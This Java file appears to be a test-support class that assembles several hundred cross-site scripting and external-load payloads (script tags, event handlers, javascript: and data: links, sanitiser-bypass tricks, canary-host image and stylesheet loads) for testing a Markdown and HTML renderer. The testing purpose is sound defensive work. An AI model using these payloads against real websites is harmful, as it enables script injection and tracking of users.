package io.opslore.testing;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.stream.Stream;

/**
 * Our own collection of texts that try to run a script ({@code alert}) or to load something from a
 * canary server when they are shown.
 */
public final class TestingPayloads {

    private static final List<String> HANDLERS =
            List.of(
                    "onerror",
                    "onload",
                    "onclick",
                    "onfocus",
                    "onblur",
                    "onmouseover",
                    "onmouseenter",
                    "onpointerenter",
                    "onpointerdown",
                    "onanimationstart",
                    "onanimationend",
                    "ontransitionend",
                    "ontoggle",
                    "onbeforetoggle",
                    "onscroll",
                    "onwheel",
                    "oncopy",
                    "onpaste",
                    "oncut",
                    "onkeydown",
                    "oninput",
                    "onchange",
                    "oninvalid",
                    "onsubmit",
                    "onreset",
                    "onplay",
                    "oncanplay",
                    "onloadstart",
                    "onhashchange",
                    "onpageshow",
                    "onresize",
                    "onmessage",
                    "onpopstate",
                    "onselectstart",
                    "oncontextmenu",
                    "ondragstart",
                    "onbegin",
                    "onend",
                    "onsecuritypolicyviolation",
                    "oncontentvisibilityautostatechange");

    private static final List<String> SCHEMES =
            List.of(
                    "javascript:alert(1)",
                    "JaVaScRiPt:alert(1)",
                    "java\tscript:alert(1)",
                    "java\u0000script:alert(1)",
                    "\u0001javascript:alert(1)",
                    "&#106;avascript:alert(1)",
                    "&#x6A;avascript:alert(1)",
                    "javascript&colon;alert(1)",
                    "javascript&#58;alert(1)",
                    "javascript&#0000058alert(1)",
                    "javascript%3Aalert(1)",
                    "%6A%61vascript:alert(1)",
                    "jav&#x0A;ascript:alert(1)",
                    "jav&Tab;ascript:alert(1)",
                    "javascript://%0Aalert(1)",
                    "javascript:/*--></title></style>*/alert(1)",
                    "vbscript:msgbox(1)",
                    "livescript:alert(1)",
                    "data:text/html,<script>alert(1)</script>",
                    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
                    "data:application/xhtml+xml,<x/>",
                    "blob:http://CANARY/1",
                    "filesystem:http://CANARY/x",
                    "view-source:http://CANARY/",
                    "jar:http://CANARY!/x",
                    "feed:javascript:alert(1)",
                    "file:///etc/passwd",
                    "ftp://CANARY/x",
                    "ws://CANARY/x",
                    "intent://CANARY/#Intent;end",
                    "about:blank#x",
                    "chrome://settings");

    private static final List<String> LOADS =
            List.of(
                    "![x](http://CANARY/x.png)",
                    "![x](//CANARY/x.png)",
                    "![x](/\\CANARY/x.png)",
                    "![x](<http://CANARY/a b.png>)",
                    "![x][r]\n\n[r]: http://CANARY/r.png",
                    "![x](http:CANARY/x.png)",
                    "![x](http://CANARY/?q=secret \"t\")",
                    "![x](data:image/svg+xml,<svg><image href='http://CANARY/'/></svg>)",
                    "[![x](http://CANARY/i.png)](http://CANARY/l)",
                    "<img src=http://CANARY/1.png>",
                    "<img srcset='http://CANARY/2.png 2x'>",
                    "<img src=x lowsrc=http://CANARY/3.png>",
                    "<image src=http://CANARY/4.png>",
                    "<picture><source srcset=http://CANARY/5.png><img></picture>",
                    "<video poster=http://CANARY/6.png></video>",
                    "<video src=http://CANARY/7.mp4 autoplay></video>",
                    "<audio src=http://CANARY/8.mp3 autoplay></audio>",
                    "<track src=http://CANARY/9.vtt default>",
                    "<iframe src=http://CANARY/10></iframe>",
                    "<frameset><frame src=http://CANARY/11></frameset>",
                    "<object data=http://CANARY/12></object>",
                    "<embed src=http://CANARY/13>",
                    "<link rel=stylesheet href=http://CANARY/14.css>",
                    "<link rel=preload as=image href=http://CANARY/15.png>",
                    "<link rel=prefetch href=http://CANARY/16>",
                    "<link rel=dns-prefetch href=//CANARY>",
                    "<link rel=icon href=http://CANARY/17>",
                    "<link rel=preconnect href=http://CANARY>",
                    "<link rel=manifest href=http://CANARY/18.json>",
                    "<style>@import 'http://CANARY/19.css';</style>",
                    "<style>body{background:url(http://CANARY/20.png)}</style>",
                    "<style>@font-face{font-family:x;src:url(http://CANARY/21)}*{font-family:x}</style>",
                    "<div style='background-image:url(http://CANARY/22.png)'>x</div>",
                    "<div style='list-style:url(http://CANARY/23.png)'>x</div>",
                    "<table background=http://CANARY/24.png><tr><td>x</table>",
                    "<td background=http://CANARY/25.png>x</td>",
                    "<body background=http://CANARY/26.png>",
                    "<input type=image src=http://CANARY/27.png>",
                    "<script src=http://CANARY/28.js></script>",
                    "<script type=module>import 'http://CANARY/29.js'</script>",
                    "<script type=importmap>{\"imports\":{\"x\":\"http://CANARY/30.js\"}}</script>",
                    "<meta http-equiv=refresh content='0;url=http://CANARY/31'>",
                    "<meta http-equiv=Link content='<http://CANARY/32>;rel=preload;as=image'>",
                    "<base href=http://CANARY/><img src=33.png>",
                    "<form action=http://CANARY/34><input autofocus></form><script>forms[0].submit()</script>",
                    "<svg><image href=http://CANARY/35.png /></svg>",
                    "<svg><image xlink:href=http://CANARY/36.png /></svg>",
                    "<svg><use href=http://CANARY/37.svg#x /></svg>",
                    "<svg><feImage href=http://CANARY/38.png /></svg>",
                    "<svg><style>@import url(http://CANARY/39.css)</style></svg>",
                    "<svg><foreignObject><img src=http://CANARY/40.png></foreignObject></svg>",
                    "<svg><text fill='url(http://CANARY/41#x)'>x</text></svg>",
                    "<math><mglyph src=http://CANARY/42.png></math>",
                    "<portal src=http://CANARY/43></portal>",
                    "<fencedframe src=http://CANARY/44></fencedframe>",
                    "<a ping=http://CANARY/45 href=#x>x</a>",
                    "<a attributionsrc=http://CANARY/46 href=#x>x</a>",
                    "<img attributionsrc=http://CANARY/47 src=x>",
                    "<template shadowrootmode=open><img src=http://CANARY/48.png></template>",
                    "<noscript><img src=http://CANARY/49.png></noscript>",
                    "<applet code=http://CANARY/50></applet>",
                    "<bgsound src=http://CANARY/51>",
                    "<isindex action=http://CANARY/52>",
                    "<html manifest=http://CANARY/53>",
                    "<?xml-stylesheet href='http://CANARY/54'?>",
                    "<!DOCTYPE x SYSTEM 'http://CANARY/55'>",
                    "```mermaid\ngraph TD\nA[\"<img src=http://CANARY/56.png>\"] --> B\n```",
                    "```mermaid\ngraph TD\nA-->B\nclick A \"http://CANARY/57\"\n```",
                    "```mermaid\n%%{init: {'themeCSS': '@import url(http://CANARY/58)'}}%%\ngraph TD\nA-->B\n```",
                    "image::http://CANARY/59.png[]",
                    "include::http://CANARY/60.adoc[]");

    private static final List<String> SCRIPTS =
            List.of(
                    "<script>alert(1)</script>",
                    "<ScRiPt>alert(1)</sCrIpT>",
                    "<script\n>alert(1)</script\n>",
                    "<script/x>alert(1)</script>",
                    "<script>alert(1)//",
                    "<<script>script>alert(1)<</script>/script>",
                    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                    "<scr<script>ipt>alert(1)</script>",
                    "<svg><script>alert(1)</script></svg>",
                    "<svg><script href=data:,alert(1) />",
                    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script>",
                    "<math><mtext></table><img src=x onerror=alert(1)>",
                    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
                    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
                    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                    "<iframe src=javascript:alert(1)></iframe>",
                    "<object data=javascript:alert(1)></object>",
                    "<embed src=javascript:alert(1)>",
                    "<template><script>alert(1)</script></template>",
                    "<template shadowrootmode=open><script>alert(1)</script></template>",
                    "<plaintext><script>alert(1)</script>",
                    "<!--><script>alert(1)</script-->",
                    "<!--\u002d-!><img src=x onerror=alert(1)>--",
                    "<![CDATA[<script>alert(1)</script>]]>",
                    "<?xml version=\"1.0\"?><script>alert(1)</script>",
                    "<!DOCTYPE html><script>alert(1)</script>",
                    "<style><img src=x onerror=alert(1)></style>",
                    "<title><img src=x onerror=alert(1)></title>",
                    "</code></pre><script>alert(1)</script>",
                    "</textarea><script>alert(1)</script>",
                    "-->'\"></title></style></textarea></script><script>alert(1)</script>",
                    "\"><script>alert(1)</script>",
                    "'><script>alert(1)</script>",
                    "\" autofocus onfocus=\"alert(1)",
                    "' onmouseover='alert(1)",
                    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
                    "{{constructor.constructor('alert(1)')()}}",
                    "${alert(1)}",
                    "#{alert(1)}",
                    "<%= alert(1) %>",
                    "[[${alert(1)}]]",
                    "<x-y is=\"z\" onclick=alert(1)>q</x-y>",
                    "<vaadin-button on-click=alert(1)>x</vaadin-button>",
                    "<vaadin-notification-container><script>alert(1)</script>",
                    "<slot name=x onslotchange=alert(1)></slot>",
                    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                    "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
                    "\u00BCscript\u00BEalert(1)\u00BC/script\u00BE",
                    "&lt;script&gt;alert(1)&lt;/script&gt;",
                    "&#60;script&#62;alert(1)&#60;/script&#62;",
                    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
                    "\\<script>alert(1)\\</script>",
                    "`<script>alert(1)</script>`",
                    "    <script>alert(1)</script>",
                    "```html\n</span></code></pre><img src=x onerror=alert(1)>\n```",
                    "```\"><script>alert(1)</script>\nx\n```",
                    "~~~\n</code><svg onload=alert(1)>\n~~~",
                    "| a<img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |",
                    "> <img src=x onerror=alert(1)>",
                    "- <img src=x onerror=alert(1)>",
                    "1. <svg onload=alert(1)>",
                    "# <img src=x onerror=alert(1)>",
                    "**<b onmouseover=alert(1)>x</b>**",
                    "~~<img src=x onerror=alert(1)>~~",
                    "> [!NOTE] <img src=x onerror=alert(1)>\n> <svg onload=alert(1)>",
                    "[x](https://a\" onmouseover=\"alert(1))",
                    "[x](https://a 'x\" onmouseover=alert(1) y=\"')",
                    "![x\" onerror=\"alert(1)](x)",
                    "![x](x 't\" onerror=\"alert(1)')",
                    "[x]: javascript:alert(1)\n\n[x]",
                    "<javascript:alert(1)>",
                    "https://a.example/\"onmouseover=\"alert(1)",
                    "www.a.example\"><script>alert(1)</script>",
                    "++++\n<script>alert(1)</script>\n++++",
                    "pass:[<script>alert(1)</script>]",
                    "link:javascript:alert(1)[x]",
                    "xref:javascript:alert(1)[x]",
                    "```mermaid\ngraph TD\nA-->B\nclick A call alert(1)\n```",
                    "```mermaid\ngraph TD\nA[\"<img src=x onerror=alert(1)>\"]\n```",
                    "---\ntitle: <img src=x onerror=alert(1)>\nowner: <svg onload=alert(1)>\n---");

    private TestingPayloads() {}

    /**
     * All of them, each once.
     *
     * @param canary host and port that nothing may be loaded from
     */
    public static List<String> all(String canary) {
        var all = new LinkedHashSet<String>();
        Stream.of(SCRIPTS, LOADS, handlers(), links())
                .flatMap(List::stream)
                .map(payload -> payload.replace("CANARY", canary))
                .forEach(all::add);
        return List.copyOf(all);
    }

    private static List<String> handlers() {
        var handlers = new ArrayList<String>();
        for (int at = 0; at < HANDLERS.size(); at++) {
            String handler = HANDLERS.get(at) + "=alert(1)";
            handlers.add("<img src=x %s>".formatted(handler));
            handlers.add("<svg/%s tabindex=1 autofocus>x</svg>".formatted(handler));
            handlers.add(
                    switch (at % 4) {
                        case 0 -> "<details open %s>x</details>".formatted(handler);
                        case 1 -> "<body %s>".formatted(handler);
                        case 2 ->
                                "<input autofocus %s>".formatted(handler.replace("=", "\u000C=\n"));
                        default -> "<a href=# \"%s x='>x</a>".formatted(handler);
                    });
        }
        return handlers;
    }

    private static List<String> links() {
        var links = new ArrayList<String>();
        for (String scheme : SCHEMES) {
            links.add("[x](" + scheme + ")");
            links.add("[x](<" + scheme + ">)");
            links.add("<a href=\"" + scheme + "\">x</a>");
        }
        return links;
    }
}
